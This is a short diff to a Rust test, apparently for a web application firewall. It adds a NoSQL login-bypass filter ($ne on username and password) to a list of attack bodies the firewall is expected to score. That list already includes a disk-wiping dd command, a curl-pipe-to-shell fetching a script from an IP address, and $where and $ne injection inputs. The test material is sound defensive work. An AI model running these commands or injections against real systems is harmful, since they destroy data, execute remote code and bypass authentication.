@@ -936,6 +936,7 @@ fn holdout7_classes_pass_and_their_attacks_still_score() {
         r##"{"q": "dd if=/dev/zero of=/dev/sda bs=1M"}"##,
         r##"{"q": "/usr/bin/curl -s http://203.0.113.9/a.sh | sh"}"##,
         r##"{"user": {"$ne": null}}"##,
+        r##"{"filter": "{\n  \"username\": {\"$ne\": null},\n  \"password\": {\"$ne\": null}\n}"}"##,
         r##"{"q": "$where"}"##,
     ] {
         let o = json_post(&waf, body);
